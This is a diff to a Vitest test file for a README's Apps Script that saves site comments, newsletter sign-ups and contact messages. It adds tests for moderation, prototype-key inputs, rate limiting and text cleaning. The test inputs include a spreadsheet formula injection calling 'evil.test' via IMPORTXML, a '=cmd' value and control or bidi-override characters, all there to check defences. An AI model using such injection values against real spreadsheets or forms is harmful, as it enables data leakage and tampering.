@@ -5,6 +5,7 @@ import { readFileSync } from "node:fs";
 import { runInNewContext } from "node:vm";
 import { beforeEach, describe, expect, it } from "vitest";
 import { FIELD_MAX_LENGTHS } from "@marketing/contracts";
+import textCases from "@marketing/contracts/text-rules.cases.json";
 
 const readme = readFileSync(new URL("../README.md", import.meta.url), "utf8");
 const script = /```js\n(\/\/ FIELD_MAX_LENGTHS[\s\S]*?)```/.exec(readme)?.[1] ?? "";
@@ -50,6 +51,8 @@ let sheets: Record<string, FakeSheet>;
 let properties: Record<string, string>;
 let logged: unknown[];
 let doPost: (event: { postData: { contents: string } }) => { content: string };
+/** The script's clock (Date.now() and new Date() in the VM), moved by the tests. */
+let clock: number;
 
 beforeEach(() => {
   sheets = Object.fromEntries(
@@ -62,10 +65,26 @@ beforeEach(() => {
   const privateBook = {
     getSheetByName: (name: string) => (name === "Comments" ? null : sheets[name]),
   };
-  const cache = new Map<string, string>();
+  // CacheService: values expire after their seconds, as Google's do.
+  const cache = new Map<string, { value: string; until: number }>();
+  const live = (key: string) => {
+    const entry = cache.get(key);
+    return entry && entry.until > clock ? entry.value : undefined;
+  };
+  const put = (key: string, value: string, seconds = 600) =>
+    void cache.set(key, { value, until: clock + seconds * 1000 });
+  clock = Date.parse("2025-03-14T10:00:00.000Z");
+  const now = () => clock;
+  class ScriptDate extends Date {
+    constructor(...args: []) {
+      super(...((args.length ? args : [now()]) as []));
+    }
+    static override now = now;
+  }
   logged = [];
   const context = {
     console: { error: (error: unknown) => void logged.push(error) },
+    Date: ScriptDate,
     SpreadsheetApp: {
       getActiveSpreadsheet: () => publicBook,
       openById: (id: string) => {
@@ -80,8 +99,13 @@ beforeEach(() => {
     CacheService: {
       getScriptCache: () => ({
         getAll: (keys: string[]) =>
-          Object.fromEntries(keys.filter((k) => cache.has(k)).map((k) => [k, cache.get(k)])),
-        put: (key: string, value: string) => void cache.set(key, value),
+          Object.fromEntries(
+            keys.flatMap((key) => (live(key) === undefined ? [] : [[key, live(key)]])),
+          ),
+        put,
+        putAll: (values: Record<string, string>, seconds?: number) => {
+          for (const [key, value] of Object.entries(values)) put(key, value, seconds);
+        },
       }),
     },
     Utilities: {
@@ -120,6 +144,7 @@ describe("the README's Apps Script", () => {
   });
 
   it("writes a comment as A–H with D blank and a ticked checkbox; the email only privately", () => {
+    properties.MODERATION = "off";
     const body = comment({ name: '=IMPORTXML("https://evil.test","//a")', message: "+1 -- @all" });
     expect(post(body)).toEqual({ ok: true, id: body.id, approved: true });
     const [row] = sheets.Comments!.rows;
@@ -137,13 +162,30 @@ describe("the README's Apps Script", () => {
     expect(sheets.CommentEmails!.rows[0]?.slice(0, 2)).toEqual([body.id, "grace@example.com"]);
   });
 
-  it("holds comments with MODERATION on, and answers a retried id without a second row", () => {
-    properties.MODERATION = "on";
+  it("holds comments by default, and answers a retried id without a second row", () => {
     const body = comment();
     expect(post(body)).toEqual({ ok: true, id: body.id, approved: false });
     expect(post(body)).toEqual({ ok: true, id: body.id, approved: false });
     expect(sheets.Comments!.rows).toHaveLength(1);
     expect(sheets.Comments!.rows[0]?.[7]).toBe(false);
+    properties.MODERATION = "on";
+    expect(post(comment()).approved).toBe(false);
+    properties.MODERATION = "off";
+    expect(post(comment()).approved).toBe(true);
+  });
+
+  it.each(["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf"])(
+    "answers a type of %j with an error body, not a crash",
+    (type) => {
+      expect(post({ ...comment(), type }).error.code).toBe(400);
+      expect(logged).toEqual([]);
+      expect(Object.values(sheets).every((sheet) => sheet.rows.length === 0)).toBe(true);
+    },
+  );
+
+  it("answers a body that is not JSON, or no body at all, with an error", () => {
+    expect(JSON.parse(doPost({ postData: { contents: "{" } }).content).error.code).toBe(400);
+    expect(JSON.parse(doPost({} as never).content).error.code).toBe(500);
   });
 
   it.each([
@@ -170,7 +212,10 @@ describe("the README's Apps Script", () => {
   it("keeps newsletter addresses and contact messages in the private spreadsheet", () => {
     expect(post({ type: "newsletter_subscription", email: "=cmd@example.com" })).toEqual({
       result: "success",
-      row: 1,
+    });
+    // The answer never counts the subscribers (it held the sheet's row number).
+    expect(post({ type: "newsletter_subscription", email: "bob@example.com" })).toEqual({
+      result: "success",
     });
     expect(sheets.Newsletter!.rows[0]?.[0]).toBe("'=cmd@example.com");
     expect(
@@ -178,6 +223,56 @@ describe("the README's Apps Script", () => {
     ).toEqual({ ok: true });
     expect(sheets.Contact!.rows[0]?.slice(0, 4)).toEqual(["Ada", "ada@example.com", "", "Hi"]);
     expect(sheets.Comments!.rows).toHaveLength(0);
+  });
+
+  it("lets real visitors through while one client rotates addresses", () => {
+    const newsletter = (email: string) => post({ type: "newsletter_subscription", email });
+    // Rotating +tags is one address; rotating addresses on one domain stops at the domain's cap.
+    const tagged = Array.from({ length: 20 }, (_, i) => newsletter(`bot+${i}@spam.example`));
+    expect(tagged.filter((answer) => answer.result).length).toBe(5);
+    const rotated = Array.from({ length: 100 }, (_, i) => newsletter(`bot${i}@spam.example`));
+    expect(rotated.filter((answer) => answer.result).length).toBe(15);
+    expect(newsletter("ada@example.com")).toEqual({ result: "success" });
+    // Rotating domains too empties the newsletter's budget, but not the comments' or contact's...
+    const flood = Array.from({ length: 100 }, (_, i) => newsletter(`x@d${i}.example`));
+    expect(flood.at(-1).error.code).toBe(429);
+    expect(post(comment()).ok).toBe(true);
+    expect(
+      post({ type: "contact_form", name: "Ada", email: "ada@example.com", message: "Hi" }),
+    ).toEqual({ ok: true });
+    // ...and the budget refills as time passes, not at the next minute only.
+    clock += 10_000;
+    expect(newsletter("grace@example.com")).toEqual({ result: "success" });
+  });
+
+  it("runs the shared text cases (packages/contracts/src/text-rules.cases.json)", () => {
+    const rules = runInNewContext(`${script}\n;({ EMAIL, cleanText })`, {}) as {
+      EMAIL: RegExp;
+      cleanText: (value: string) => string;
+    };
+    for (const email of textCases.validEmails) expect(rules.EMAIL.test(email), email).toBe(true);
+    for (const email of textCases.invalidEmails) expect(rules.EMAIL.test(email), email).toBe(false);
+    for (const { input, clean } of textCases.texts) expect(rules.cleanText(input)).toBe(clean);
+  });
+
+  it("refuses an email with a control character or an override, and cleans names and messages", () => {
+    for (const email of ["ada\u0000@example.com", "ada\u202e@example.com", "<ada@example.com>"])
+      expect(post({ type: "newsletter_subscription", email }).error.code).toBe(400);
+    const body = {
+      type: "contact_form",
+      name: "Ada\u0000\u0007 Love\u202elace",
+      email: "ada@example.com",
+      company: "\u001b[2JACME",
+      message: "Hello\r\nthere\u2066",
+    };
+    expect(post(body)).toEqual({ ok: true });
+    expect(sheets.Contact!.rows[0]?.slice(0, 4)).toEqual([
+      "Ada Lovelace",
+      "ada@example.com",
+      "[2JACME",
+      "Hello\nthere",
+    ]);
+    expect(sheets.Newsletter!.rows).toHaveLength(0);
   });
 
   it("answers an error, not a crash, when the private spreadsheet is missing", () => {
